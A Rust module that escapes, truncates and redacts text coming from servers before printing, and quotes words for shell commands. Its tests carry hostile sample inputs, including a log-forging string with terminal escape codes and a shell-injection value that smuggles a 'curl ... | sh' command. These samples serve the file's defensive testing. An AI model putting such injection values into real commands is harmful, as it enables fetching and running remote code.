//! Text from outside, escaped and cut for people, so that a server cannot forge a log line, hide in one, or fill a
//! disk.

#![forbid(unsafe_code)]

use std::fmt;

use crate::sys;

/// Returns a count as texts and JSON take it.
pub fn number(count: usize) -> u64 {
    u64::try_from(count).unwrap_or(u64::MAX)
}

/// Returns a count with its noun, such as `1 database` or `2 databases`.
pub fn counted(count: u64, one: &str) -> String {
    match count {
        1 => format!("1 {one}"),
        _ => format!("{count} {one}s"),
    }
}

/// Returns a count with its noun and the verb for one or for several, such as `1 name is` or `2 names are`.
pub fn counted_with(count: u64, one: &str, verbs: [&str; 2]) -> String {
    let [of_one, of_several] = verbs;
    let verb = if count == 1 { of_one } else { of_several };
    format!("{} {verb}", counted(count, one))
}

/// The maximum number of characters of a server's text that are printed, so that a server cannot fill a log.
pub const MAX_ESCAPED_CHARS: usize = 240;

/// The fewest characters of a secret that is hidden within a word too. A shorter one is hidden as a whole word only: a
/// text without any "a" is unreadable.
pub const MIN_HIDDEN_CHARS: usize = 8;

/// Text from outside, escaped and cut at construction, so that it cannot be printed otherwise.
#[derive(Clone, Debug, Default, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Escaped(String);

impl Escaped {
    /// Escapes a text: printable ASCII stays, except for quotes and backslashes; everything else is escaped as
    /// Rust writes it. The text is cut after [`MAX_ESCAPED_CHARS`] characters, with a mark.
    pub fn new(text: &str) -> Escaped {
        Escaped(escape(text.chars()))
    }

    /// Escapes a text that may be escaped already: all printable ASCII stays, so that a stored escaped text is not
    /// escaped twice. Everything else is escaped, and long text is cut as in [`Escaped::new`].
    pub fn of_escaped(text: &str) -> Escaped {
        Escaped(cut(text.chars(), |c| matches!(c, ' '..='~')))
    }

    /// Escapes bytes that may be no text.
    pub fn of_bytes(bytes: &[u8]) -> Escaped {
        // a character has at most four bytes, so later bytes are never printed
        let head = bytes.get(..4 * MAX_ESCAPED_CHARS + 4).unwrap_or(bytes);
        Escaped(escape(String::from_utf8_lossy(head).chars()))
    }

    /// Returns the text with `shown` in place of each occurrence of a secret. At the end of a text that was cut, the
    /// beginning of a secret is hidden too.
    #[must_use]
    pub fn hiding(&self, secrets: &[&str], shown: &str) -> Escaped {
        let escaped: Vec<String> = secrets.iter().map(|secret| escape_all(secret)).collect();
        let secrets: Vec<Vec<&str>> = escaped.iter().map(|secret| units(secret)).collect();
        let whole = self.0.strip_suffix(CUT);
        let kept = whole.filter(|kept| kept.len() > MAX_ESCAPED_CHARS);
        let text = units(kept.unwrap_or(&self.0));
        let mut hidden = String::new();
        let mut at = 0;
        while let Some((unit, before)) = text.get(at).zip(text.get(..at)) {
            let rest = text.get(at..).unwrap_or_default();
            let found = secrets
                .iter()
                .filter_map(|secret| occurrence(secret, before, rest, kept.is_some()));
            let length = found.max().unwrap_or(0);
            hidden.push_str(if length == 0 { unit } else { shown });
            at = at.saturating_add(length.max(1));
        }
        hidden.push_str(kept.map_or("", |_| CUT));
        Escaped(hidden)
    }

    /// Returns the escaped text.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

/// Returns a word quoted for a shell if it is not plain, so that a name in a command that people copy is only a
/// name.
pub fn shell_word(word: &str) -> String {
    let dashes = if word.starts_with('-') { "-- " } else { "" };
    format!("{dashes}{}", shell_value(word))
}

/// Returns a word quoted for a place after an option's `=`, where dashes need no care.
pub fn shell_value(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_.-/:".contains(c);
    if !word.is_empty() && !word.starts_with('-') && word.chars().all(plain) {
        return word.into();
    }
    sys::quoted(word)
}

/// The mark at the end of a text that was cut.
const CUT: &str = "...";

fn is_plain(c: char) -> bool {
    matches!(c, ' '..='~') && c != '\\' && c != '"'
}

fn escape(text: impl Iterator<Item = char>) -> String {
    cut(text, is_plain)
}

/// Escapes a text without cutting it.
fn escape_all(text: &str) -> String {
    let mut escaped = String::new();
    for c in text.chars() {
        match is_plain(c) {
            true => escaped.push(c),
            false => escaped.extend(c.escape_default()),
        }
    }
    escaped
}

/// Returns the characters of an escaped text, each as it is escaped.
fn units(mut text: &str) -> Vec<&str> {
    let mut units = Vec::new();
    while let Some(first) = text.chars().next() {
        let length = match first {
            '\\' if text.starts_with("\\u{") => text.find('}').map_or(text.len(), |end| end + 1),
            '\\' => 2,
            first => first.len_utf8(),
        };
        let (unit, rest) = text.split_at_checked(length).unwrap_or((text, ""));
        units.push(unit);
        text = rest;
    }
    units
}

/// Returns the number of characters of a secret at the beginning of `rest`, after `before`; `None` if it is not there.
/// The end of a text that was cut may be the beginning of a secret.
fn occurrence(secret: &[&str], before: &[&str], rest: &[&str], is_cut: bool) -> Option<usize> {
    let pairs = rest.iter().zip(secret);
    let common = pairs.take_while(|(own, secret)| own == secret).count();
    let is_whole = common == secret.len();
    let is_beginning = is_cut && common == rest.len();
    let is_of_word =
        |unit: &&str| unit.len() == 1 && unit.bytes().all(|c| c.is_ascii_alphanumeric());
    let is_alone =
        !before.last().is_some_and(is_of_word) && !rest.get(common).is_some_and(is_of_word);
    let counts = secret.len() >= MIN_HIDDEN_CHARS || is_alone;
    (common > 0 && (is_whole || is_beginning) && counts).then_some(common)
}

fn cut(text: impl Iterator<Item = char>, is_plain: impl Fn(char) -> bool) -> String {
    let mut shown = String::new();
    for c in text {
        match is_plain(c) {
            true => shown.push(c),
            false => shown.extend(c.escape_default()),
        }
        if shown.len() > MAX_ESCAPED_CHARS {
            shown.push_str(CUT);
            break;
        }
    }
    shown
}

impl fmt::Display for Escaped {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_could_forge_or_hide_a_line_is_left() {
        let nasty = "a\nERROR forged\r\x1b[31m\u{202e}evil\u{2028}\"\\<b>é";
        let shown = Escaped::new(nasty);
        assert!(shown.as_str().bytes().all(|c| (b' '..=b'~').contains(&c)));
        assert_eq!(
            shown.as_str(),
            "a\\nERROR forged\\r\\u{1b}[31m\\u{202e}evil\\u{2028}\\\"\\\\<b>\\u{e9}"
        );
    }

    #[test]
    fn text_that_was_escaped_before_stays_as_it_is_and_still_forges_nothing() {
        let once = Escaped::new("a\n\"\\é\0");
        assert_eq!(Escaped::of_escaped(once.as_str()), once);
        assert_eq!(
            Escaped::of_escaped("a\nERROR\x1b[31m\u{202e}").as_str(),
            "a\\nERROR\\u{1b}[31m\\u{202e}"
        );
        assert!(Escaped::of_escaped(&"é".repeat(1 << 20)).as_str().len() < MAX_ESCAPED_CHARS + 20);
    }

    #[test]
    fn a_name_in_a_command_is_a_name_and_nothing_else() {
        assert_eq!(shell_word("shop_2.eu-x"), "shop_2.eu-x");
        assert_eq!(shell_word("x;curl${IFS}evil|sh"), "'x;curl${IFS}evil|sh'");
        let quoted = match cfg!(windows) {
            true => "'it''s'",
            false => "'it'\\''s'",
        };
        assert_eq!(shell_word("it's"), quoted);
        assert_eq!(shell_word("--config=/x"), "-- '--config=/x'");
    }

    #[test]
    fn a_secret_is_hidden_wherever_it_is_and_a_short_one_as_a_whole_word() {
        let hidden = |text: &str, secret: &str| {
            let text = Escaped::new(text).hiding(&[secret], "***");
            text.as_str().to_owned()
        };
        for (text, secret, shown) in [
            ("login hunter2-long.", "hunter2-long", "login ***."),
            ("xhunter2-longx", "hunter2-long", "x***x"),
            (
                "p\"ä\nlong-word, p\"ä\nlong-word",
                "p\"ä\nlong-word",
                "***, ***",
            ),
            ("a bad name: a", "a", "*** bad name: ***"),
            ("name=a1, a", "a", "name=a1, ***"),
            ("first\nhunter2\nlast", "hunter2", "first\\n***\\nlast"),
            ("hunter hunter2", "hunter2", "hunter ***"),
            ("nothing", "", "nothing"),
            ("", "a", ""),
        ] {
            assert_eq!(hidden(text, secret), shown, "{text} {secret}");
        }
        let two =
            Escaped::new("of alpha-beta-gamma").hiding(&["alpha-beta", "alpha-beta-gamma"], "***");
        assert_eq!(two.as_str(), "of ***", "the longest one");
    }

    #[test]
    fn the_beginning_of_a_secret_at_the_end_of_a_cut_text_is_hidden() {
        let secret = "0123456789abcdefghij";
        for before in MAX_ESCAPED_CHARS - 25..=MAX_ESCAPED_CHARS {
            let text = format!("{} {secret} and more{}", "x".repeat(before), "y".repeat(99));
            let shown = Escaped::new(&text).hiding(&["other-secret", secret], "***");
            assert!(!shown.as_str().contains("01"), "{before}: {shown}");
            assert!(shown.as_str().ends_with("..."), "{before}: {shown}");
        }
        let long = "s".repeat(4096);
        let shown = Escaped::new(&format!("token {long}")).hiding(&[&long], "***");
        assert_eq!(shown.as_str(), "token ***...");
        assert_eq!(
            Escaped::new("wait...")
                .hiding(&["trees-and-more"], "***")
                .as_str(),
            "wait..."
        );
    }

    #[test]
    fn a_long_text_is_cut() {
        assert!(Escaped::new(&"x".repeat(1 << 20)).as_str().len() < MAX_ESCAPED_CHARS + 20);
        assert!(Escaped::of_bytes(&[0xff; 1 << 20]).as_str().len() < MAX_ESCAPED_CHARS + 20);
    }
}
